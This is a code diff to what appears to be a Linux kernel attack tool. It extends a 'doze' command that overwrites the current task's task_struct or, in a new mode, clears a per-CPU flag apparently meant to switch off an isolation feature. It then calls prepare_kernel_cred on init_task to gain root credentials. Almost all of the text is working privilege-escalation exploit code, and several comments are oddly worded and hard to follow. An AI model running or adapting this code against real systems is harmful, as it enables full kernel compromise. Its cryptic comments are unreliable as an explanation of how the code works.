@@ -21,7 +21,8 @@
  *                             isolated tasks (pointer), what it has of this task
  *                             (space), of its cgroup (domain), its map of hidden pages
  *                             (hidden); or this task's task_struct, with zeros (task)
- *   doze                      overwrite this task's task_struct, sleep, then escalate
+ *   doze task|cpu             overwrite this task's task_struct, or what this CPU has of
+ *                             the page table that it is on, sleep, then escalate
  *   unisolate                 take this task out of the directory
  *
  * and what is allowed:
@@ -536,11 +537,19 @@ static int attack_overwrite(int argc, char **argv, u64 *result)
 /* Who comes back from the scheduler is put where it says. */
 static int attack_doze(int argc, char **argv, u64 *result)
 {
+	struct target t;
 	u64 cred;
+	int err;
 
+	if (argc != 2)
+		return -EINVAL;
+	err = resolve(&t, "sci_on_view", NULL, NULL);
 	/* The way there is in the view then: no fault sets anything right again. */
 	schedule_timeout_uninterruptible(1);
-	forget();
+	if (!strcmp(argv[1], "task"))
+		forget();
+	else if (!err)
+		WRITE_ONCE(*(bool *)(t.addr + this_cpu_read(this_cpu_off)), false);
 	schedule_timeout_uninterruptible(1);
 	cred = corrupted_call(known.prepare_kernel_cred_body, (u64)&init_task);
 	if (!cred)
